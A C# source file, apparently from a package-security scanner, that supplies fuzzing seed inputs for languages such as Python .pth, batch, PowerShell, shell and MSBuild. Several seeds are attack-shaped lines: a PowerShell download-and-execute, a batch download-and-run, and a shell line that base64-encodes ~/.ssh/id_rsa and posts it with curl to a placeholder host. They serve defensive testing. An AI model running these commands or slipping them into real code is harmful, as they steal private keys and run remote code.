using System.Text;
using PackageWall.Inspection.Languages;
using PackageWall.Testing.Catalogue;

namespace PackageWall.Fuzzing.Targets;

/// <summary>Inputs of kinds that the catalogue has few of.</summary>
internal static class MoreSeeds
{
    /// <summary>Inputs of one language.</summary>
    public static IEnumerable<byte[]> Of(string language) => language switch
    {
        Language.Pyc => [Pyc([0xE3, .. new byte[20], (byte)'s', 4, 0, 0, 0, 0x64, 0, 0x53, 0, 0x29, 1, 0x4E, 0xDA, 2, (byte)'o', (byte)'s'])],
        Language.Pth => Texts("import os; exec('1')\n", "# c\n./lib\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"),
        Language.Gyp => Texts("{'targets': [{'target_name': 'a', 'variables': {'x%': '<!(node -p 1)'}, 'actions': [{'action_name': 'b', 'inputs': [], 'outputs': [], 'action': ['sh', '-c', 'echo 1']}], 'conditions': [['OS==\"win\"', {}]]}]}"),
        Language.Batch => Texts("@echo off\nset a=ec\nset b=ho\n%a%%b% 1\nif exist x (curl http://a.invalid -o y & start y) else goto :e\nfor %%i in (1 2) do call :f %%i\n:e\n"),
        Language.PowerShell => Texts("$a = 'iex'; & ($a) (New-Object Net.WebClient).DownloadString(\"http://a.invalid/$x\") | % { $_ -replace 'a','b' -f 1 }\nfunction f($p) { @{a=1;b=@(1,2)}['a'] }\nif ($true) { f -p ([Convert]::FromBase64String('YQ==')) }"),
        Language.Shell => Texts("a=$(cat ~/.ssh/id_rsa | base64); for i in 1 2; do curl -d \"$a\" http://a.invalid/${i:-3}; done <<E\nx\nE\ncase $1 in a|b) eval \"$a\";; esac"),
        Language.CSharp => Texts("using System; class A { string B = @\"x\"; void C() { var d = $\"{1:x}\"; System.Diagnostics.Process.Start(\"sh\", \"\"\"-c \"echo\" \"\"\"); } }"),
        Language.MsBuild => Texts("<Project><PropertyGroup><A Condition=\"'$(A)'==''\">$([System.IO.File]::ReadAllText('x'))</A></PropertyGroup><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"a.dll\"><Task><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[ Console.WriteLine(1); ]]></Code></Task></UsingTask><Target Name=\"a\" BeforeTargets=\"Build\"><Exec Command=\"echo $(A) @(B->'%(x)')\"/></Target></Project>"),
        Language.DotNet => Assemblies(),
        Language.Native => SeedFiles.Of(Language.Native).Take(0),
        _ => [],
    };

    private static IEnumerable<byte[]> Texts(params string[] texts) => texts.Select(Encoding.UTF8.GetBytes);

    private static byte[] Pyc(byte[] marshalled) => [0xCB, 0x0D, 0x0D, 0x0A, .. new byte[12], .. marshalled];

    private static IEnumerable<byte[]> Assemblies() => AttackCatalogue.All.Select(fixture => fixture.Attack).Concat(AttackCatalogue.Twins)
        .SelectMany(package => package.Files).Select(file => file.Content)
        .Where(content => content.Length < 64 << 10 && LanguageSniffer.Sniff("a.dll", content) == Language.DotNet);
}
